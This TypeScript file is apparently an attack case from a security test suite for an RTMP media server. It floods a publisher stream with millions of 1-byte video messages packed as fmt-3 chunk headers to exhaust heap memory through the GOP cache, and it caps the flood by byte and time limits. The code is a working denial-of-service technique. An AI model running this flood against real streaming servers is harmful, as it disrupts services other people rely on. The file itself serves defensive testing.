/**
 * Item 3: a publisher floods 1-byte video messages (2 bytes each on the wire: a fmt-3 chunk header and the
 * byte), millions of them after one keyframe, so the GOP cache's byte bound is never reached while each
 * cached packet costs hundreds of bytes of heap.
 */
import { MessageType } from '../../rtmp/messages';
import type { Attack } from '../suite';
import { attackerStream, pick, rtmpPublisher, writeBounded } from './tools';

export const tinyMessages: Attack = {
  name: 'item 3: millions of 1-byte video messages (fmt-3 chunks) into the GOP cache',
  async run(ctx) {
    const maxBytes = pick(ctx, 6, 40) * 1024 * 1024;
    const seconds = pick(ctx, 4, 30);
    const s = await attackerStream(ctx);
    const pub = await rtmpPublisher(ctx, s.key);
    const notes: string[] = [];
    try {
      // One keyframe (codec id 2, so no AVC header is needed), then one message with a timestamp delta of 1,
      // after which every fmt-3 chunk header starts another 1-byte message with the same header.
      pub.sendMessage({ csid: 6, type: MessageType.Video, streamId: pub.streamId, timestamp: 0, payload: Buffer.from([0x12]) });
      const fmt1 = Buffer.from([0x40 | 6, 0, 0, 1, 0, 0, 1, MessageType.Video, 0x22]);
      pub.socket.write(fmt1);
      const block = Buffer.alloc(64 * 1024);
      for (let i = 0; i < block.length; i += 2) {
        block[i] = 0xc0 | 6;
        block[i + 1] = 0x22;
      }
      const t0 = Date.now();
      const sent = await writeBounded(ctx, pub.socket, () => block, maxBytes, Date.now() + seconds * 1000);
      notes.push(`${(sent / 2 / 1e6).toFixed(1)} M messages (${(sent / 1048576).toFixed(1)} MiB) sent in ${Date.now() - t0} ms; connection ${pub.socket.destroyed ? 'closed by the server' : 'still open'}`);
    } finally {
      pub.socket.destroy();
    }
    return { notes, problems: [] };
  },
};
